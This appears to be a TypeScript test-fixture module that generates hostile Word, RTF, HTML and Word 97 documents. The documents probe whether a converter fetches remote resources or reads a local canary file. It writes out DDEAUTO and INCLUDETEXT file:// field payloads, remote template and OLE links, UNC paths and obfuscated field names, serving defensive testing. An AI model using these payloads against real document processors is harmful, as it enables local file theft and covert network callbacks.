import { inflateRawSync } from 'node:zlib';
import {
  docxOf,
  fetchingDocx,
  fetchingRtf,
  HEAD,
  NAMESPACES,
  OFFICE,
  paragraph,
  run,
  wordHtml,
} from './word-documents.ts';

/** What a hostile document asks for: a server that counts, and a file of the machine. */
export interface Wanted {
  /** `http://127.0.0.1:12345` */
  readonly address: string;
  /** The path of a file with words in it that must not come to light. */
  readonly file: string;
}

/** Documents of every format that want everything that their formats let them ask for. */
export const FETCHING: Readonly<Record<string, readonly [name: string, make: (wanted: Wanted) => Buffer | string]>> = {
  'a DOCX with a picture and a template from elsewhere': ['cv.docx', ({ address }) => fetchingDocx(address)],
  'a DOCX with every kind of link': ['cv.docx', greedyDocx],
  'a DOCX whose parts lie elsewhere': ['cv.docx', scatteredDocx],
  'RTF with a field for a picture': ['cv.doc', ({ address }) => fetchingRtf(address)],
  'RTF with every kind of link': ['cv.doc', greedyRtf],
  'a page of Word': ['cv.doc', ({ address }) => wordHtml(address)],
  'a page with every kind of link': ['cv.doc', greedyPage],
  'a web archive': [
    'cv.doc',
    (wanted) => `MIME-Version: 1.0\r\nContent-Type: text/html; charset="utf-8"\r\n\r\n${greedyPage(wanted)}`,
  ],
  "Word's XML of 2003": ['cv.doc', greedy2003],
  "Word's XML of 2007": ['cv.doc', greedyFlatPackage],
  'a file of Word 97 with fields and a picture from elsewhere': ['cv.doc', fetchingWord97],
};

const PICTURE = 'http://schemas.openxmlformats.org/drawingml/2006/picture';

function picture(how: string): string {
  return (
    '<w:r><w:drawing><wp:inline><wp:extent cx="914400" cy="914400"/><wp:docPr id="1" name="p"/><a:graphic>' +
    `<a:graphicData uri="${PICTURE}"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr>` +
    `<pic:blipFill><a:blip ${how}/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>` +
    '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>'
  );
}

function field(...pieces: readonly string[]): string {
  const mark = (type: string): string => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
  const code = pieces.map((piece) => `<w:r><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`).join('');
  return mark('begin') + code + mark('separate') + run('kept') + mark('end');
}

function external(id: string, kind: string, target: string): string {
  return `<Relationship Id="${id}" Type="${OFFICE}/${kind}" Target="${target}" TargetMode="External"/>`;
}

function greedyBody({ address, file }: Wanted): string {
  return [
    paragraph(run('Ada Lindqvist')),
    paragraph(
      picture('r:link="web"') + picture('r:embed="web"') + picture('r:link="disk"') + picture('r:link="share"'),
    ),
    paragraph(
      `<w:r><w:pict><v:shape style="width:50pt;height:50pt"><v:imagedata src="${address}/vml.png" o:href="${address}/href.png"/></v:shape></w:pict></w:r>`,
    ),
    paragraph(
      `<w:r><w:pict><v:rect style="width:50pt;height:50pt"><v:fill type="frame" r:id="web" src="${address}/fill.png"/><v:imagedata r:id="web"/></v:rect></w:pict></w:r>`,
    ),
    paragraph(
      '<w:r><w:object><v:shape id="o1" style="width:50pt;height:50pt"><v:imagedata r:id="web"/></v:shape><o:OLEObject Type="Link" ProgID="Word.Document.12" ShapeID="o1" DrawAspect="Content" ObjectID="_1" r:id="ole" UpdateMode="Always"/></w:object></w:r>',
    ),
    paragraph(field(`INCLUDEPICTURE "${address}/field.png" \\d`)),
    paragraph(field(' INCL', 'UDETEXT ', `"${address}/split.html"`)),
    paragraph(field(`INCLUDETEXT "file://${file}"`)),
    paragraph(`<w:fldSimple w:instr=" INCLUDETEXT &quot;file://${file}&quot; ">${run('kept')}</w:fldSimple>`),
    paragraph(field(`DDEAUTO soffice "${file}" x`)),
    paragraph(field(`LINK Word.Document.8 "${address}/link.doc" \\a \\t`)),
    paragraph(field(`HYPERLINK "${address}/followed"`)),
    '<w:altChunk r:id="chunk"/><w:altChunk r:id="inside"/><w:subDoc r:id="sub"/>',
    paragraph(run('The end')),
  ].join('');
}

function greedyLinks({ address, file }: Wanted): string {
  return (
    external('web', 'image', `${address}/picture.png`) +
    external('disk', 'image', `file://${file}`) +
    external('share', 'image', '\\\\127.0.0.1\\share\\picture.png') +
    external('ole', 'oleObject', `${address}/object.docx`) +
    external('chunk', 'aFChunk', `${address}/chunk.docx`) +
    external('sub', 'subDocument', `file://${file}`) +
    external('frame', 'frame', `${address}/frame.html`) +
    `<Relationship Id="inside" Type="${OFFICE}/aFChunk" Target="chunk.html"/>` +
    // Elsewhere, though it says that it is not.
    `<Relationship Id="lying" Type="${OFFICE}/image" Target="${address}/lying.png"/>`
  );
}

function greedyDocx(wanted: Wanted): Buffer {
  const { address, file } = wanted;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${address}/svg.png" width="9" height="9"/></svg>`;
  return docxOf({
    body: greedyBody(wanted) + paragraph(picture('r:embed="svg"')),
    relationships: `${greedyLinks(wanted)}<Relationship Id="svg" Type="${OFFICE}/image" Target="media/a.svg"/>`,
    settingsRelationships:
      external('rId1', 'attachedTemplate', `${address}/template.dotm`) +
      external('mail', 'mailMergeSource', `file://${file}`),
    parts: {
      'word/chunk.html': [
        `<html><body><img src="${address}/chunk.png"><iframe src="file://${file}"></iframe></body></html>`,
        'text/html',
      ],
      'word/media/a.svg': [svg, 'image/svg+xml'],
    },
  });
}

/** Styles, fonts, numbering and a header that lie on the server. */
function scatteredDocx({ address }: Wanted): Buffer {
  const kinds = [
    'styles',
    'numbering',
    'fontTable',
    'theme',
    'settings',
    'header',
    'footnotes',
    'comments',
    'customXml',
    'glossaryDocument',
    'webSettings',
    'font',
  ];
  const body = `${paragraph(run('Ada Lindqvist'))}<w:sectPr><w:headerReference w:type="default" r:id="header"/></w:sectPr>`;
  return docxOf({ body, relationships: kinds.map((kind) => external(kind, kind, `${address}/${kind}.xml`)).join('') });
}

function greedyRtf({ address, file }: Wanted): string {
  const asField = (code: string): string => `{\\field{\\*\\fldinst {${code}}}{\\fldrslt kept}}\\par `;
  return [
    `{\\rtf1\\ansi{\\*\\template ${address}/template.dot}{\\*\\nextfile ${file}}{\\fonttbl{\\f0 Arial;}}Ada Lindqvist\\par `,
    asField(` INCLUDEPICTURE "${address}/a.png" \\\\d `),
    asField(`{\\b INCL}{\\i UDEPICTURE} "${address}/b.png" `),
    asField(` \\'49NCLUDETEXT "${address}/c.html" `),
    asField(` \\u73?NCLUDETEXT "file://${file}" `),
    asField(` DDEAUTO soffice "${file}" x `),
    asField(` IMPORT "${address}/d.png" `),
    `{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document.8}{\\*\\objdata 0105000001000000}{\\result kept}}`,
    'The end\\par}',
  ].join('');
}

function greedyPage({ address, file }: Wanted): string {
  return `<html xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:v="urn:schemas-microsoft-com:vml"><head><base href="${address}/"><link rel="stylesheet" href="a.css">
<meta http-equiv="refresh" content="0; url=${address}/refresh"><style>@import url(${address}/b.css); p { background: url('${address}/c.png') } @font-face { font-family: x; src: url(${address}/x.ttf) }</style>
<script src="${address}/d.js"></script></head><body background="${address}/e.png"><p style="background-image:url(${address}/f.png); list-style: url(${address}/g.png)">Ada Lindqvist</p>
<img src="${address}/h.png" srcset="${address}/i.png 2x"><img src=j.png><img src="file://${file}"><iframe src="file://${file}"></iframe><iframe src="${address}/k"></iframe>
<object data="${address}/l"><embed src="${address}/m"></object><input type="image" src="${address}/n.png"><video poster="${address}/o.png" src="${address}/p"></video><table background="${address}/q.png"><tr><td background="${address}/r.png">x</td></tr></table>
<v:shape><v:imagedata src="${address}/s.png"/></v:shape><a href="${address}/followed">link</a><frameset><frame src="${address}/t"></frameset><p>The end</p></body></html>`;
}

function greedy2003({ address, file }: Wanted): string {
  return `<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml" xmlns:v="urn:schemas-microsoft-com:vml">
<w:docPr><w:attachedTemplate w:val="${address}/template.dot"/></w:docPr><w:body><w:p><w:r><w:t>Ada Lindqvist</w:t></w:r></w:p>
<w:p><w:r><w:pict><v:shape><v:imagedata src="${address}/a.png"/></v:shape></w:pict></w:r></w:p><w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;file://${file}&quot; "><w:r><w:t>kept</w:t></w:r></w:fldSimple></w:p>
<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;${address}/b.png&quot; \\d "><w:r><w:t>kept</w:t></w:r></w:fldSimple></w:p><w:subDoc w:link="${address}/c.doc"/></w:body></w:wordDocument>`;
}

function greedyFlatPackage(wanted: Wanted): string {
  const part = (name: string, type: string, xml: string): string =>
    `<pkg:part pkg:name="${name}" pkg:contentType="${type}"><pkg:xmlData>${xml}</pkg:xmlData></pkg:part>`;
  const links = (xml: string): string =>
    `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${xml}</Relationships>`;
  const [linkType, mainType] = [
    'application/vnd.openxmlformats-package.relationships+xml',
    'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
  ];
  const root = links(`<Relationship Id="r1" Type="${OFFICE}/officeDocument" Target="word/document.xml"/>`);
  return `${HEAD}<?mso-application progid="Word.Document"?><pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">${
    part('/_rels/.rels', linkType, root) +
    part('/word/_rels/document.xml.rels', linkType, links(greedyLinks(wanted))) +
    part(
      '/word/document.xml',
      mainType,
      `<w:document ${NAMESPACES}><w:body>${greedyBody(wanted)}</w:body></w:document>`,
    )
  }</pkg:package>`;
}

/**
 * A file of Word 97, deflated: INCLUDETEXT of a file (88 times `A`) and of an address (88 times `B`), INCLUDEPICTURE of an
 * address, DDEAUTO of a file, each under a name that is no field's, and a picture from another file. LibreOffice saved it.
 */
const WORD_97_WITH_FIELDS =
  '7VprbFRFFD6zu93uttBunyIPWUottdDSB5oiEPuilEJpoUWMIqRlW2ltu7UtoST+KALqD4wFf5gQE5GUxAdBxH/GQCUECcaIiZjwQ0PV+CRkEa' +
  'M2DV2/c+5su7aF7m6bSOOezTczd+6dOY85c+7Mnb38Rdy1tz6Y3U+jaAWZachrJ6tfnQLifRcOIpOuG/J6vb5qb5imFd3WOY+hBeMXAfCYRwI2' +
  'PbZRyKOBGcBMIAaINVyA4vQzCToP0/SiTeTGr5OctJpakbfTHgqGkuEx/v0F0mYowOcCpTD/0Pn74ved5r8dmGj+8zuB538ikCQ+QXQfMAu4H5' +
  'gNzAHmAvOAB4D5gBNYAKQAC4FU4EEgDVgEpGvZMpAv1uXMcJyZUlKwpjnK8CGr3SQ+0We4RimPX0XjjnZ3h7uh07nF3e7KLHE/u6ulvrVTfKKi' +
  'mutK3DvEE7ichQu5n5VPfyw//dzEvqiMZUTIFA+vi0IvT4lHGrQNrnnTa+IcvrwB8a2dWqiWmrUf56RSRqoqhLvlUVEGVZabaSNQXD6LWsrslg' +
  '5gXZmJqsojqLXMYusEtpVbqRb3t5ctt9xVnlIamq/IpEplDpVRPfi6qBGx9RmZPbGU0OuhxN4usqYqzJDK8kgwjwTzuWBoI4PRXFpGRQ7uZ5nM' +
  'wRr00yVRugjauCRGO/CLdyUqhR4x93oPyoxa6lAqXvHMstB68O1AKzZxHK63ldupgFLQb4oqEPmKIV0bnmhEr60iXzx66xL5ZkC+eDHKIzbFTV' +
  'n/p20qTTTMVWkSLdainUuk46sEaWVwYupXLIe4h3gYh5Rz0UaE8ZUj9ai0A7uA3cC33Bb4HtiOPuoAF/Al8JUy+k1Qid6k7rEp/MCTL9ytHvZg' +
  'k8VwMbOOdkqXC+iBmw6xE9lQZ8Mztr9Y1lgyeQ4qLtk8Nv0wdxJLZk+24tziSZeO7B7HOC5goihpxz1HkPH838hPW4x67ovnzy2K9hxDca+0ek' +
  'HSfZLulzTikzJWQnG4fYylpr2KbbhPymcVO4CXJaf9LCIdkPRFSV+StAED24zBeZSWyq8T06AN+W6ZEi7KpB1wgFaAX/uZuNeImk4MQztaZeHa' +
  'cNtqSrnJQftVMxuyR9JDZhbjsJTPMrduWMwzMjnipKy0/itlqhr6K4vxDimG/jxAfYqV+Ey08iob9FEmk7jHSB9fI/lOGbb7M8bgcATvml54Us' +
  '3wHqVf6RFw+FVUGS8yiVhrkntUIFGlBoZogQk6MKM2IN+NnFdKLWIuoofRTyBhqxpmbaE6tOTYk5cWGPdCmL9Rx6tGcFJxE7fhuV4HSdvRzjef' +
  'neBfL301BKBTHnMKUrp11sDabJA1pvtfEjnhAOW0TuqK2cUD7KsEPTSB/+NwU27L0newrWFd5QjdUr5+/PVbG4J+Rj9jtEudnHZFiCbK9grmy2' +
  'U43s7hrg6/89unvnWc4ehz5Moq8Wdfj3VMrW+2LDLLAkzCVJgmsQLJnvo+R8UWZ4CDFLQk3ZOWdMjLfmUab11H1w68+ftA5U7He4dstHjRh1dZ' +
  'vOe1B/L9fL2/KNDReb1eCTyh9xouvd9o0xb55baxd+Byjm7no7uV3790PK17zzcqGPm5xnTl8ytvZM1xvPY65F8ycLKEX8qj6rbqfY5vZeHwk/' +
  'VO9fcSXT+uVIXTDvfyxJ/19yK9Oouh4lp3c21r/ji+Zbck0yq/iNuvJtqnxg6PPZcj/cqj6WXjFa97PBJA6ORnEoPQ/KQyvOwjnfsoA7Y4g6G6' +
  'oAyPDJXsIcbVn2GiOj+HTLIYu+pg6SezsbOesjgHma4oCtMUE/vJjP+Ar4muho0fpjD9r6kQq6xaLDB5R9QgnwXqseZKoCexpynG+28zdiSrsX' +
  'dcjVVZDZ5LQYvp9UvBqqAd68WkCfQqmmY/Q6/ccfWqorW4qsHVJlxNT+2ctJUykFZAg020BmkpVaJUgTGtkbsusUDesAVY80LoXIPnnNg1u+HR' +
  'DfJJq36aeq6TukTHZaKjbXi21kKvTvmGMXOyAQDr/EQgGZgF/AD8CPwKXAduAPzV7mNs1M4A54DzwAXgItdh49YHnAcuABeBS8Ax7B16gbeBd4' +
  'ETwEmgL9rYVwzSwODA4K1x0huD4ag8RStLcxNnm20qGqgst9BGwIyyzXcxj/TY8zjLmEYZY8VjNODf2aQvwnRvELaX5lSqTSU+ALOuoJXZVFBF' +
  'VFRlovmnLi91nrq2asGpoxEpwMKeoxGpQC7u5/S4KJu/xFAertJzKSY7bMvpT1P5/w/+ODD6DHm8NnJaFO37TlgsZxBteGfXUVPwXyWwj2WOFt' +
  'InjAFS0/B3yko5IguVosCd+ZqD4M/y+r5U5WC1UgvNQ5UhRvMP5v8fLKs+oMXoVdMu2L9FHwLyeW7D8In5yMnwnSgd/PmQMzII/R8CTujyFn0U' +
  'WYJ8h0hSL34YKM0GfyuN/AcmoPci4PtuaXhdvRx7VslcaA7S/9Wk/n8TMUbz4MYjP4TxXwL4LPwP';

function fetchingWord97({ address, file }: Wanted): Buffer {
  let text = inflateRawSync(Buffer.from(WORD_97_WITH_FIELDS, 'base64')).toString('latin1');
  const wide = (ascii: string): string => Buffer.from(ascii, 'utf16le').toString('latin1');
  const put = (mark: string, value: string): void => {
    if (value.length > mark.length || !text.includes(wide(mark))) throw new Error(`there is no room for ${value}`);
    text = text.replaceAll(wide(mark), wide(value.padEnd(mark.length, ' ')));
  };
  put('A'.repeat(88), `file://${file}"`);
  put('B'.repeat(88), `${address}/include.html"`);
  put('file:///tmp/word-canary-picture.png', `${address}/picture.png`);
  put('ZNCLUDE', 'INCLUDE');
  put('ZDEAUTO', 'DDEAUTO');
  return Buffer.from(text, 'latin1');
}
